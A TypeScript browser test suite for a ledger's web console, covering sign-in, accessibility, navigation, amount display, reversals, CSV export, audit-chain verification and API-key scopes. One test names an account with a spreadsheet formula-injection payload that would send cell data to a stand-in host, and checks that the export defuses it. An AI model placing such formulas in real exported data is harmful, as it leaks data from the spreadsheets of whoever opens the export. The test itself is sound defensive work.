// The console (issue 34) in a real headless browser, Debian's chromium driven by playwright-core, against a real server
// on this project's engine: signing in, every page (with an axe-core audit and a screenshot each, at 1280×800 and at a
// phone's 390×844), from every kind of page to every other by its address and with Back (issue 41), amounts as an
// accountant reads them, a search by metadata, a reversal through its dialog, the trial balance against the API and
// the CLI's CSV (a name made as a formula written as text), the audit chain verified in the browser (intact, then
// damaged), a live event, a read-only key, a revoked key. Every test fails on a request that leaves the server's
// origin and on an error thrown in the page or logged by it, but those it causes on purpose (test/helpers/browser.ts).
// Screenshots go to screenshots/console/<engine>/.
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { parseJsonObject, type JsonNumber } from '../../src/core/json.js';
import { formatAmount } from '../../src/console/amounts.js';
import { CHROMIUM, CHROMIUM_ARGS, describeInBrowser, problemsOf, watch, type Watched } from '../helpers/browser.js';
import { TEST_ENGINE } from '../helpers/postgres.js';
import { sqlOn } from '../helpers/sql.js';
import { cli, client, fiat, makeAccount, onchain, post, startTestServer, type Client, type TestServer } from '../helpers/server.js';

const SHOTS = join(process.cwd(), 'screenshots', 'console', TEST_ENGINE);
const AXE_SOURCE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const SECTIONS = ['Accounts', 'Transactions', 'Holds', 'Settlements', 'Reconciliation', 'Events', 'Reports', 'Audit'] as const;
const PHONE = { width: 390, height: 844 };
const DESKTOP = { width: 1280, height: 800 };

/** An amount beyond a double's 15-17 digits, shown whole. */
const HUGE = '12345678901234567.89';
/** A BRZ amount with every one of its 18 places, beyond a double too. */
const BRZ_AMOUNT = '1234.123456789012345678';

/** What code run in the page uses of its globals (this file is type-checked without the DOM's). */
interface InPage {
  document: { querySelectorAll(selector: string): Iterable<{ textContent: string | null }> & { length: number } };
  location: { hash: string };
  history: { back(): void };
  requestAnimationFrame(callback: (time: number) => void): number;
  getComputedStyle(element: unknown): { textAlign: string; fontVariantNumeric: string };
}

/** A page of its own (its own session storage), watched. */
interface Opened extends Watched {
  context: BrowserContext;
}

describeInBrowser('the console in a headless browser', () => {
  let t: TestServer;
  let admin: Client;
  let browser: Browser;
  let cash: string;
  let revenue: string;
  let orderA: string;
  let orderB: string;
  let holdId: string;
  let readOnlyKey: string;
  /** An account with fiat and on-chain balances (USDC and BRZ), limits, and a settlement expected. */
  let wallet: string;
  let onChainTx: string;
  const opened: Opened[] = [];

  beforeAll(async () => {
    t = await startTestServer();
    admin = client(t.url, t.tenant.apiKey.rawKey);
    cash = await makeAccount(admin, { name: 'Cash', type: 'ASSET' });
    revenue = await makeAccount(admin, { name: 'Revenue', type: 'REVENUE' });
    orderA = (await post(admin, [fiat(cash, 'DEBIT', HUGE), fiat(revenue, 'CREDIT', HUGE)], { metadata: { order: 'A-1' } })).body.transactionId;
    orderB = (await post(admin, [fiat(cash, 'DEBIT', '0.07'), fiat(revenue, 'CREDIT', '0.07')], { metadata: { order: 'B-2' } })).body.transactionId;
    const hold = await admin.post('/api/v1/holds', { lines: [fiat(cash, 'DEBIT', '5.00'), fiat(revenue, 'CREDIT', '5.00')] }, { 'idempotency-key': 'console-hold' });
    expect(hold.status, hold.text).toBe(201);
    holdId = hold.body.holdId;
    const key = await admin.post('/api/v1/api-keys', { scopes: ['ACCOUNTS_READ', 'TRANSACTIONS_READ', 'COMPLIANCE_EXPORT'] });
    readOnlyKey = key.body.rawKey;
    wallet = await makeAccount(admin, { name: 'Wallet', type: 'ASSET' });
    const float = await makeAccount(admin, { name: 'Float', type: 'LIABILITY' });
    expect((await post(admin, [fiat(wallet, 'DEBIT', '1711.25'), fiat(float, 'CREDIT', '1711.25')])).status).toBe(201);
    const chained = await post(admin, [
      onchain(wallet, 'DEBIT', '2.5', 'USDC'),
      onchain(float, 'CREDIT', '2.5', 'USDC'),
      onchain(wallet, 'DEBIT', BRZ_AMOUNT, 'BRZ', { chainId: 'SOLANA' }),
      onchain(float, 'CREDIT', BRZ_AMOUNT, 'BRZ', { chainId: 'SOLANA' }),
    ]);
    expect(chained.status, chained.text).toBe(201);
    onChainTx = chained.body.transactionId;
    const limits = await admin.request('PUT', `/api/v1/accounts/${wallet}/limits`, {
      body: { limits: [{ asset: 'USD', min: '0', max: null }, { asset: 'USDC', min: '-5.5', max: '1000000.123456' }] },
    });
    expect(limits.status, limits.text).toBe(200);
    const expected = { accountId: wallet, expectedToken: 'USDC', expectedAmount: '7.25', expectedWalletAddress: '0x0000000000000000000000000000000000000002', expectedChainId: 'EVM' };
    const settlement = await admin.post('/api/v1/settlements', expected, { 'idempotency-key': 'console-settlement' });
    expect(settlement.status, settlement.text).toBe(201);
    rmSync(SHOTS, { recursive: true, force: true });
    mkdirSync(SHOTS, { recursive: true });
    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  });

  afterAll(async () => {
    await browser?.close();
    await t?.stop();
  });

  afterEach(async () => {
    for (const w of opened.splice(0)) await w.context.close();
  });

  /**
   * A new browser context (its own session storage) on the console, watched: the test fails on any request outside
   * the server and any error in the page, but what `allow` names (the refusals the test causes on purpose).
   */
  async function open({ viewport = DESKTOP, allow = [] }: { viewport?: typeof DESKTOP; allow?: RegExp[] } = {}): Promise<Opened> {
    const context = await browser.newContext({ viewport, acceptDownloads: true });
    const page = await context.newPage();
    const w: Opened = Object.assign(watch(page, { within: `${t.url}/`, allow }), { context });
    opened.push(w);
    const response = await page.goto(`${t.url}/console`);
    expect(response?.status()).toBe(200);
    return w;
  }

  async function signIn(w: Watched, key = t.tenant.apiKey.rawKey): Promise<void> {
    await w.page.getByLabel('API key').fill(key);
    await w.page.getByRole('button', { name: 'Sign in' }).click();
    await w.page.getByRole('navigation').waitFor();
  }

  /** Waits for the page to settle: its heading shown (`heading` when given) and no loading line left. */
  async function settled(page: Page, heading?: string): Promise<void> {
    await page.locator('main h1').first().waitFor();
    if (heading !== undefined) await expect.poll(() => page.locator('main h1').first().innerText()).toBe(heading);
    await expect.poll(() => page.locator('.loading, [role="status"]:text("Signing in")').count(), { timeout: 15_000 }).toBe(0);
  }

  async function axe(page: Page, name: string): Promise<void> {
    // Evaluated through the DevTools protocol: the page's own policy lets no inline script in.
    await page.evaluate(AXE_SOURCE);
    // (Code run in the page is written as text: this file is type-checked without the DOM's globals.)
    const violations = (await page.evaluate(
      'axe.run().then((r) => r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, targets: v.nodes.map((n) => n.target) })))',
    )) as Array<{ id: string; impact: string; help: string; targets: unknown[] }>;
    if (process.env.LEDGER_TEST_AXE_ALL) console.log(name, JSON.stringify(violations));
    expect(
      violations.filter((v) => v.impact === 'serious' || v.impact === 'critical'),
      name,
    ).toEqual([]);
  }

  const noHorizontalScroll = (page: Page) => page.evaluate('document.documentElement.scrollWidth <= document.documentElement.clientWidth') as Promise<boolean>;

  async function visitSection(w: Watched, name: string): Promise<void> {
    await w.page.getByRole('navigation').getByRole('link', { name, exact: true }).click();
    await settled(w.page, name);
  }

  it('serves one page under a strict policy, and a wrong key gets the server’s message in an alert', async () => {
    const w = await open({ allow: [/status of 401/] });
    const response = await fetch(`${t.url}/console`);
    const policy = response.headers.get('content-security-policy') ?? '';
    for (const part of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "style-src 'self'"]) expect(policy).toContain(part);
    expect(policy).not.toContain('unsafe-inline');
    expect(await response.text()).not.toMatch(/<script>|<script [^>]*>[^<]/);
    // What the page loads, gzipped as it is sent: under 200 KB.
    let sent = 0;
    for (const path of ['/console', '/console/app.js', '/console/app.css']) {
      const file = await fetch(`${t.url}${path}`, { headers: { 'accept-encoding': 'gzip' } });
      expect(file.headers.get('content-encoding'), path).toBe('gzip');
      sent += Number(file.headers.get('content-length'));
      await file.arrayBuffer();
    }
    expect(sent).toBeLessThan(200 * 1024);
    // Checked again on every load, and unchanged it costs no body.
    const etag = (await fetch(`${t.url}/console/app.js`)).headers.get('etag');
    expect(etag).toMatch(/^"[\w-]+"$/);
    const again = await fetch(`${t.url}/console/app.js`, { headers: { 'if-none-match': etag! } });
    expect(again.status).toBe(304);
    console.log(`console: the page loads ${(sent / 1024).toFixed(1)} KB gzipped`);
    await expect(w.page.getByLabel('API key').getAttribute('type')).resolves.toBe('password');
    await w.page.getByLabel('API key').fill('sk_live_00000000000000000000000000000000');
    await w.page.getByRole('button', { name: 'Sign in' }).click();
    const refused = await client(t.url, 'sk_live_00000000000000000000000000000000').get('/api/v1/api-keys/current');
    await expect(w.page.getByRole('alert').innerText()).resolves.toBe(refused.body.message);
  });

  it('signs in and shows every page, each passing axe-core, with a screenshot of each', async () => {
    const w = await open();
    await signIn(w);
    // The key is in the tab's session storage alone: no cookie, nothing in localStorage, nothing in the URL.
    await expect(w.context.cookies()).resolves.toEqual([]);
    await expect(w.page.evaluate('localStorage.length')).resolves.toBe(0);
    expect(w.page.url()).not.toContain(t.tenant.apiKey.rawKey);
    // A reload keeps the tab signed in; signing out forgets the key.
    await w.page.reload();
    await w.page.getByRole('navigation').waitFor();
    await w.page.getByRole('button', { name: 'Sign out' }).click();
    await w.page.getByRole('button', { name: 'Sign in' }).waitFor();
    await expect(w.page.evaluate('sessionStorage.length')).resolves.toBe(0);
    await signIn(w);
    const links = await w.page.getByRole('navigation').getByRole('link').allInnerTexts();
    expect(links).toEqual([...SECTIONS]);
    for (const name of SECTIONS) {
      await visitSection(w, name);
      expect(await noHorizontalScroll(w.page), name).toBe(true);
      await axe(w.page, name);
      await w.page.screenshot({ path: join(SHOTS, `${name.toLowerCase()}.png`), fullPage: true });
    }
    // The pages of one account, transaction and hold.
    await visitSection(w, 'Accounts');
    await w.page.getByRole('link', { name: 'Cash', exact: true }).click();
    await settled(w.page, 'Cash');
    await expect(w.page.getByRole('img', { name: /^Balance history/ }).count()).resolves.toBe(1);
    await w.page.screenshot({ path: join(SHOTS, 'account.png'), fullPage: true });
    await w.page.getByText('The numbers, as a table').click();
    await w.page.getByRole('table', { name: 'Balance history, point by point' }).waitFor();
    // Every digit the API gives.
    await expect(w.page.getByRole('region', { name: 'Entries, newest first' }).innerText()).resolves.toContain('12,345,678,901,234,567.89 USD');
    await axe(w.page, 'account');
    await w.page.goto(`${t.url}/console#/transactions/${orderA}`);
    await settled(w.page, 'Transaction');
    await axe(w.page, 'transaction');
    await w.page.screenshot({ path: join(SHOTS, 'transaction.png'), fullPage: true });
    await w.page.goto(`${t.url}/console#/holds/${holdId}`);
    await settled(w.page, 'Hold');
    await w.page.getByRole('button', { name: 'Capture' }).waitFor();
    await axe(w.page, 'hold');
    await w.page.screenshot({ path: join(SHOTS, 'hold.png'), fullPage: true });
  });

  /**
   * Every kind of page the console has, at an address of its own: its heading, and what shows that it is there and
   * loaded (elements that `shows` names by a selector, each holding its text when given).
   */
  const pageKinds = (): Array<{ name: string; path: string; heading: string; shows: Array<[selector: string, text?: string]> }> => {
    const region = (name: string) => `main [role="region"][aria-label="${name}"]`;
    const facts = 'main dl.facts code';
    // What moved an on-chain line, its block included (a JSON number, read as an object with its text: issue 41).
    const block = 'block 1 ·';
    return [
      { name: 'the accounts', path: 'accounts', heading: 'Accounts', shows: [[region('Accounts')]] },
      { name: 'an account', path: `accounts/${cash}`, heading: 'Cash', shows: [[region('Entries, newest first')]] },
      {
        name: 'an account with on-chain balances',
        path: `accounts/${wallet}`,
        heading: 'Wallet',
        shows: [[region('On-chain balances'), 'USDC'], [region('Entries, newest first'), block]],
      },
      { name: 'the transactions', path: 'transactions', heading: 'Transactions', shows: [[region('Transactions, newest first')]] },
      { name: 'a transaction', path: `transactions/${orderA}`, heading: 'Transaction', shows: [[facts, orderA]] },
      { name: 'a transaction with on-chain lines', path: `transactions/${onChainTx}`, heading: 'Transaction', shows: [[facts, onChainTx], [region('Lines'), block]] },
      { name: 'the holds', path: 'holds', heading: 'Holds', shows: [[region('Holds, newest first')]] },
      { name: 'a hold', path: `holds/${holdId}`, heading: 'Hold', shows: [[facts, holdId]] },
      { name: 'the settlements', path: 'settlements', heading: 'Settlements', shows: [[region('Settlements, newest first')]] },
      { name: 'the events', path: 'events', heading: 'Events', shows: [[region('Events, oldest first')]] },
      { name: 'the reports', path: 'reports', heading: 'Reports', shows: [[region('Trial balance, by account')]] },
      { name: 'the audit', path: 'audit', heading: 'Audit', shows: [['main button', 'Verify chain']] },
      { name: 'a place with no page', path: 'nowhere', heading: 'Not found', shows: [['main a[href="#/accounts"]']] },
    ];
  };

  it('goes from every kind of page to every other, by its address and with Back, in one session, each shown whole', async () => {
    const w = await open();
    await signIn(w);
    const kinds = pageKinds();
    /**
     * Goes to `kind`'s page (by its address, or Back) and waits until it is shown: its heading alone, what shows it,
     * and no loading line left; then nothing may have gone wrong. Both in the page, in one round trip: 312 of them
     * make the test.
     */
    const goTo = async (kind: (typeof kinds)[number], how: 'address' | 'back') => {
      const shown = await w.page.evaluate(
        async ({ address, heading, shows }) => {
          const { document, location, history, requestAnimationFrame } = globalThis as unknown as InPage;
          if (address === null) history.back();
          else location.hash = address;
          const there = () => {
            const headings = [...document.querySelectorAll('main h1')].map((h) => h.textContent);
            return (
              headings.length === 1 &&
              headings[0] === heading &&
              shows.every(([selector, text = '']) => [...document.querySelectorAll(selector)].some((e) => e.textContent?.includes(text))) &&
              document.querySelectorAll('main .loading').length === 0
            );
          };
          for (const until = Date.now() + 15_000; !there(); ) {
            if (Date.now() > until) return false;
            await new Promise((resolve) => requestAnimationFrame(resolve));
          }
          return true;
        },
        { address: how === 'address' ? `#/${kind.path}` : null, heading: kind.heading, shows: kind.shows },
      );
      if (!shown) throw new Error(`${w.step}: ${kind.name} not shown; what went wrong: ${problemsOf(w).join('; ')}; the page reads: ${await w.page.locator('main').innerText()}`);
      expect(problemsOf(w), w.step).toEqual([]);
    };
    let steps = 0;
    for (const from of kinds) {
      w.step = from.name;
      await goTo(from, 'address');
      for (const to of kinds) {
        if (to === from) continue;
        w.step = `${from.name}, then ${to.name} by its address`;
        await goTo(to, 'address');
        w.step = `${to.name}, then back to ${from.name}`;
        await goTo(from, 'back');
        steps += 2;
      }
    }
    expect(steps).toBe(kinds.length * (kinds.length - 1) * 2);
    // 312 pages shown one after the other: a minute was not enough on CI's loaded machine.
  }, 240_000);

  it('shows every amount grouped, at its asset’s places, right-aligned in tabular figures, with every digit the API gives', async () => {
    const w = await open();
    await signIn(w);
    const cells = (locator: Locator) => locator.evaluateAll((rows) => rows.map((r) => [...r.querySelectorAll('td, th')].map((c) => c.textContent!.trim())));
    await w.page.goto(`${t.url}/console#/accounts/${wallet}`);
    await settled(w.page, 'Wallet');
    // Fiat at 2 places (0 as 0.00), grouped by thousands.
    const balance = w.page.locator('main dl.amounts');
    await expect(balance.locator('dd').allInnerTexts()).resolves.toEqual(['1,711.25 USD', '0.00 USD', '1,711.25 USD', expect.stringMatching(/ UTC$/)]);
    // USDC at 6 places; BRZ with every place it has (18 here), at least 2.
    await expect(cells(w.page.getByRole('region', { name: 'On-chain balances' }).locator('tbody tr'))).resolves.toEqual([
      ['BRZ', '1,234.123456789012345678', '0.00', '1,234.123456789012345678'],
      ['USDC', '2.500000', '0.000000', '2.500000'],
    ]);
    // A negative amount keeps its sign.
    await expect(cells(w.page.getByRole('region', { name: 'Limits' }).locator('tbody tr'))).resolves.toEqual([
      ['USD', '0.00', 'none'],
      ['USDC', '-5.500000', '1,000,000.123456'],
    ]);
    const entries = w.page.getByRole('region', { name: 'Entries, newest first' });
    const amounts = await entries.locator('tbody td.num').allInnerTexts();
    expect(amounts).toEqual(['1,234.123456789012345678 BRZ', '2.500000 USDC', '1,711.25 USD']);
    // Right-aligned in tabular figures, each asset's name in a box of one width: the digits of a column end at one x.
    const style = await entries
      .locator('tbody td.num')
      .first()
      .evaluate((cell) => {
        const { textAlign, fontVariantNumeric } = (globalThis as unknown as InPage).getComputedStyle(cell);
        return [textAlign, fontVariantNumeric];
      });
    expect(style).toEqual(['right', 'tabular-nums']);
    const ends = await entries.locator('tbody td.num .asset').evaluateAll((names) => names.map((n) => Math.round(n.getBoundingClientRect().left)));
    expect(new Set(ends).size, String(ends)).toBe(1);
    await w.page.getByText('The numbers, as a table').click();
    await expect(cells(w.page.getByRole('table', { name: 'Balance history, point by point' }).locator('tbody tr').last())).resolves.toEqual([[expect.stringMatching(/ UTC$/), '1,711.25']]);
    await expect(w.page.getByRole('img', { name: /^Balance history/ }).getAttribute('aria-label')).resolves.toMatch(/the last 1,711\.25$/);
    await w.page.screenshot({ path: join(SHOTS, 'account-on-chain.png'), fullPage: true });
    // Beyond a double's digits, kept whole: 12345678901234567.89 is 12345678901234568 as a JavaScript number.
    await w.page.goto(`${t.url}/console#/accounts/${cash}`);
    await settled(w.page, 'Cash');
    await expect(w.page.getByRole('region', { name: 'Entries, newest first' }).innerText()).resolves.toContain('12,345,678,901,234,567.89 USD');
    await w.page.goto(`${t.url}/console#/transactions/${onChainTx}`);
    await settled(w.page, 'Transaction');
    await expect(w.page.getByRole('region', { name: 'Lines' }).locator('td.num').allInnerTexts()).resolves.toEqual(['2.500000 USDC', '2.500000 USDC', '1,234.123456789012345678 BRZ', '1,234.123456789012345678 BRZ']);
    await visitSection(w, 'Settlements');
    await expect(w.page.getByRole('region', { name: 'Settlements, newest first' }).locator('td.num').allInnerTexts()).resolves.toEqual(['7.250000 USDC']);
    await visitSection(w, 'Reports');
    const rows = await cells(w.page.getByRole('region', { name: 'Trial balance, by account' }).locator('tbody tr'));
    expect(rows).toContainEqual(['Wallet', 'ASSET', 'USD', '1,711.25', '0.00']);
    expect(rows).toContainEqual(['Wallet', 'ASSET', 'BRZ', '1,234.123456789012345678', '0.00']);
    await visitSection(w, 'Holds');
    await expect(w.page.getByRole('region', { name: 'Holds, newest first' }).locator('td.num').allInnerTexts()).resolves.toEqual(['5.00 USD']);
  });

  it('fits a phone: no page scrolls sideways at 390×844', async () => {
    const w = await open({ viewport: PHONE });
    await signIn(w);
    for (const name of SECTIONS) {
      await visitSection(w, name);
      expect(await noHorizontalScroll(w.page), name).toBe(true);
    }
    await w.page.goto(`${t.url}/console#/accounts/${cash}`);
    await settled(w.page, 'Cash');
    expect(await noHorizontalScroll(w.page), 'account').toBe(true);
    await w.page.screenshot({ path: join(SHOTS, 'account-phone.png'), fullPage: true });
  });

  it('finds a posting by its metadata', async () => {
    const w = await open({ allow: [/status of 400/] });
    await signIn(w);
    await visitSection(w, 'Transactions');
    await w.page.getByLabel('Metadata key').fill('order');
    await w.page.getByLabel('Metadata value').fill('B-2');
    await w.page.getByRole('button', { name: 'Search' }).click();
    const table = w.page.getByRole('region', { name: 'Transactions, newest first' });
    await expect.poll(() => table.locator('tbody tr').count()).toBe(1);
    await expect(table.locator('tbody tr').innerText()).resolves.toContain(orderB);
    // By idempotency key, through the keyboard alone.
    await w.page.getByRole('button', { name: 'Clear' }).click();
    await w.page.getByLabel('Idempotency key').fill('no-such-key');
    await w.page.getByLabel('Idempotency key').press('Enter');
    await w.page.getByText('No transaction matches this search.').waitFor();
    // A search the API refuses: its code and message, and no table.
    await w.page.getByRole('button', { name: 'Clear' }).click();
    await w.page.getByLabel('Account').fill('not-a-uuid');
    await w.page.getByRole('button', { name: 'Search' }).click();
    const refused = await admin.get('/api/v1/transactions?accountId=not-a-uuid');
    await expect(w.page.getByRole('alert').innerText()).resolves.toContain(`${refused.body.code} (400): ${refused.body.message}`);
    await expect(w.page.getByRole('region', { name: 'Transactions, newest first' }).count()).resolves.toBe(0);
  });

  it('reverses through the dialog with one Idempotency-Key across a retry, then links and lists the reversal', async () => {
    const w = await open({ allow: [/ERR_CONNECTION_RESET/] });
    await signIn(w);
    const keys: string[] = [];
    let first = true;
    await w.page.route('**/reverse', async (route) => {
      keys.push(route.request().headers()['idempotency-key'] ?? '');
      // The first attempt is lost on the way: the retry must carry the same key.
      if (first) {
        first = false;
        await route.abort('connectionreset');
      } else {
        await route.continue();
      }
    });
    await w.page.goto(`${t.url}/console#/transactions/${orderB}`);
    await settled(w.page, 'Transaction');
    await w.page.getByRole('button', { name: 'Reverse' }).click();
    const dialog = w.page.getByRole('dialog', { name: 'Reverse this transaction?' });
    await dialog.waitFor();
    await axe(w.page, 'reverse dialog');
    await dialog.getByRole('button', { name: 'Reverse' }).click();
    await dialog.getByRole('alert').waitFor();
    await dialog.getByRole('button', { name: 'Try again' }).click();
    await w.page.getByText('Reversed by').first().waitFor();
    expect(keys).toHaveLength(2);
    expect(keys[0]).toMatch(/^console-/);
    expect(keys[1]).toBe(keys[0]);
    const reversed = await admin.get(`/api/v1/transactions/${orderB}`);
    const reversalId = reversed.body.reversedByTransactionId as string;
    expect(reversalId).toMatch(/^[0-9a-f-]{36}$/);
    await expect(w.page.getByRole('link', { name: reversalId }).count()).resolves.toBeGreaterThan(0);
    await visitSection(w, 'Transactions');
    const table = w.page.getByRole('region', { name: 'Transactions, newest first' });
    await expect(table.locator('tbody tr').first().innerText()).resolves.toContain(reversalId);
    await expect(table.locator('tbody tr').first().innerText()).resolves.toContain(`Reverses ${orderB}`);
  });

  it('shows the trial balance with the API’s totals, and downloads the CLI’s CSV, a name made as a formula as text', async () => {
    const formula = '=HYPERLINK("http://x"&A2,"x")';
    const trap = await makeAccount(admin, { name: formula, type: 'ASSET' });
    const suspense = await makeAccount(admin, { name: '-Suspense', type: 'LIABILITY' });
    expect((await post(admin, [fiat(trap, 'DEBIT', '5.25'), fiat(suspense, 'CREDIT', '5.25')])).status).toBe(201);
    const w = await open();
    await signIn(w);
    await visitSection(w, 'Reports');
    await w.page.getByRole('heading', { name: 'Trial balance' }).waitFor();
    const asOf = await w.page.locator('main p time').first().getAttribute('datetime');
    const api = await fetch(`${t.url}/api/v1/reports/trial-balance?asOf=${encodeURIComponent(asOf!)}&limit=200`, { headers: { authorization: `Bearer ${t.tenant.apiKey.rawKey}` } });
    const report = parseJsonObject(await api.text()) as { totals: Array<{ asset: string; debit: JsonNumber; credit: JsonNumber }> };
    const totals = await w.page.locator('tfoot tr').evaluateAll((rows) => rows.map((r) => [...r.querySelectorAll('td')].map((c) => c.textContent!.trim())));
    expect(totals).toEqual(report.totals.map((x) => [x.asset, formatAmount(x.debit.text, x.asset), formatAmount(x.credit.text, x.asset)]));
    const [download] = await Promise.all([w.page.waitForEvent('download'), w.page.getByRole('link', { name: 'Download CSV' }).click()]);
    const saved = readFileSync((await download.path())!, 'utf8');
    const printed = await cli(['--db', t.dbPath, 'reports', 'trial-balance', '--tenant', t.tenant.tenantId, '--as-of', asOf!, '--format', 'csv']);
    expect(printed.code, printed.stderr).toBe(0);
    expect(saved).toBe(printed.stdout);
    const rows = parse(saved, { columns: true }) as Array<Record<string, string>>;
    expect(rows.find((r) => r.accountId === trap)).toMatchObject({ name: `'${formula}`, debit: '5.25' });
    expect(rows.find((r) => r.accountId === suspense)).toMatchObject({ name: "'-Suspense", credit: '5.25' });
  });

  it('verifies the audit chain in the browser: intact, then the damaged record named', async () => {
    const w = await open();
    await signIn(w);
    await visitSection(w, 'Audit');
    const exported = await fetch(`${t.url}/api/v1/compliance/audit-export?from=1970-01-01T00:00:00Z&to=2999-01-01T00:00:00Z`, { headers: { authorization: `Bearer ${t.tenant.apiKey.rawKey}` } });
    const records = (await exported.text()).trim().split('\n').map((line) => JSON.parse(line) as { id: string; action: string; payload: Record<string, unknown> });
    await w.page.getByRole('button', { name: 'Verify chain' }).click();
    await expect(w.page.locator('.outcome').innerText()).resolves.toMatch(new RegExp(`^Chain intact: ${records.length} records verified`));
    // The download is the export itself.
    const [download] = await Promise.all([w.page.waitForEvent('download'), w.page.getByRole('button', { name: 'Download audit log' }).click()]);
    const saved = readFileSync((await download.path())!, 'utf8').trim().split('\n');
    expect(saved.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(records.map((r) => r.id));
    // One record's payload changed by hand under the ledger.
    const target = records.find((r) => r.action === 'POST_TRANSACTION' && r.payload.transactionId === orderA)!;
    const [row] = (await sqlOn<{ payload: string }>(t.dbPath, 'SELECT payload FROM audit_log WHERE id = ?', [target.id])).rows;
    await sqlOn(t.dbPath, 'UPDATE audit_log SET payload = ? WHERE id = ?', [JSON.stringify({ ...JSON.parse(row!.payload), lineCount: 3 }), target.id]);
    try {
      await w.page.getByRole('button', { name: 'Verify chain' }).click();
      await expect.poll(() => w.page.locator('.outcome').innerText()).toContain(`Chain broken at record ${target.id}`);
      await w.page.screenshot({ path: join(SHOTS, 'audit-broken.png'), fullPage: true });
    } finally {
      await sqlOn(t.dbPath, 'UPDATE audit_log SET payload = ? WHERE id = ?', [row!.payload, target.id]);
    }
  });

  it('shows a new posting live on the events page, without a reload', async () => {
    const w = await open();
    await signIn(w);
    await visitSection(w, 'Events');
    await w.page.getByText('Connected: new events appear here').waitFor();
    const posted = await post(admin, [fiat(cash, 'DEBIT', '1.23'), fiat(revenue, 'CREDIT', '1.23')], { metadata: { order: 'LIVE' } });
    const started = Date.now();
    const live = w.page.getByRole('region', { name: 'New events, newest first' });
    await live.getByText(posted.body.transactionId).waitFor({ timeout: 15_000 });
    // The stream pushes at commit: here, well within the 2 s the issue asks for (not asserted: a busy machine may lag).
    console.log(`console: a posting appeared on the events page ${Date.now() - started} ms after its 201`);
  });

  it('offers a read-only key no write action, and says which scope is missing', async () => {
    const w = await open();
    await signIn(w, readOnlyKey);
    await w.page.goto(`${t.url}/console#/transactions/${orderA}`);
    await settled(w.page, 'Transaction');
    await expect(w.page.getByRole('button', { name: 'Reverse' }).count()).resolves.toBe(0);
    await expect(w.page.getByRole('note').innerText()).resolves.toContain('TRANSACTIONS_WRITE');
    await w.page.goto(`${t.url}/console#/holds/${holdId}`);
    await settled(w.page, 'Hold');
    for (const name of ['Capture', 'Void']) await expect(w.page.getByRole('button', { name }).count()).resolves.toBe(0);
    await expect(w.page.getByRole('note').innerText()).resolves.toContain('TRANSACTIONS_WRITE');
  });

  it('captures a hold for a key that may write', async () => {
    const w = await open();
    await signIn(w);
    await w.page.goto(`${t.url}/console#/holds/${holdId}`);
    await settled(w.page, 'Hold');
    await w.page.getByLabel('Amount to capture').fill('2.50');
    await w.page.getByRole('button', { name: 'Capture' }).click();
    await expect.poll(async () => (await admin.get(`/api/v1/holds/${holdId}`)).body.status).toBe('CAPTURED');
    await w.page.getByText('CAPTURED').first().waitFor();
    // 2.5 as the API gives it, at USD's 2 places.
    await expect(w.page.locator('main dl.facts').innerText()).resolves.toMatch(/Captured\s+2\.50 USD/);
    await expect(w.page.getByRole('button', { name: 'Capture' }).count()).resolves.toBe(0);
  });

  it('offers only the sections the key may read, and a section reached anyway says which scope is missing', async () => {
    const made = await admin.post('/api/v1/api-keys', { scopes: ['ACCOUNTS_READ'] });
    const w = await open();
    await signIn(w, made.body.rawKey);
    await expect(w.page.getByRole('navigation').getByRole('link').allInnerTexts()).resolves.toEqual(['Accounts', 'Reports']);
    await w.page.goto(`${t.url}/console#/audit`);
    await settled(w.page, 'Audit');
    await expect(w.page.getByRole('note').innerText()).resolves.toContain('COMPLIANCE_EXPORT');
    await expect(w.page.getByRole('button', { name: 'Verify chain' }).count()).resolves.toBe(0);
    await w.page.goto(`${t.url}/console#/transactions`);
    await settled(w.page, 'Transactions');
    await expect(w.page.getByRole('note').innerText()).resolves.toContain('TRANSACTIONS_READ');
    await axe(w.page, 'missing scope');
  });

  it('is used with the keyboard alone: Tab and Enter reach every action, with a visible focus ring', async () => {
    const w = await open();
    await w.page.keyboard.press('Tab');
    await w.page.keyboard.type(t.tenant.apiKey.rawKey);
    await w.page.keyboard.press('Enter');
    await w.page.getByRole('navigation').waitFor();
    // Tab to the "Transactions" link (the skip link, the brand is not focusable, then the sections).
    let focused = '';
    for (let i = 0; i < 10 && focused !== 'Transactions'; i++) {
      await w.page.keyboard.press('Tab');
      focused = (await w.page.evaluate('document.activeElement.textContent')) as string;
    }
    expect(focused).toBe('Transactions');
    const ring = (await w.page.evaluate('getComputedStyle(document.activeElement).outlineStyle')) as string;
    expect(ring).not.toBe('none');
    await w.page.keyboard.press('Enter');
    await settled(w.page, 'Transactions');
    // The first transaction's link, then Enter; on its page, the Reverse button opens its dialog from the keyboard.
    await w.page.getByRole('region', { name: 'Transactions, newest first' }).getByRole('link').first().focus();
    await w.page.keyboard.press('Enter');
    await settled(w.page, 'Transaction');
    await w.page.getByRole('button', { name: 'Reverse' }).focus();
    await w.page.keyboard.press('Enter');
    const dialog = w.page.getByRole('dialog', { name: 'Reverse this transaction?' });
    await dialog.waitFor();
    await w.page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
  });

  it('sends a user whose key is revoked back to the sign-in form, with the server’s message', async () => {
    const made = await admin.post('/api/v1/api-keys', { scopes: ['ACCOUNTS_READ'] });
    const w = await open({ allow: [/status of 401/] });
    await signIn(w, made.body.rawKey);
    await visitSection(w, 'Accounts');
    // Every row's balance read first: one read after the revocation would sign the user out before the click.
    await expect.poll(() => w.page.locator('main tbody .none').count(), { timeout: 15_000 }).toBe(0);
    expect((await admin.del(`/api/v1/api-keys/${made.body.id}`)).status).toBe(204);
    await w.page.getByRole('link', { name: 'Cash', exact: true }).click();
    await w.page.getByRole('button', { name: 'Sign in' }).waitFor();
    await expect(w.page.getByRole('alert').innerText()).resolves.toContain('unknown or revoked');
  });
});

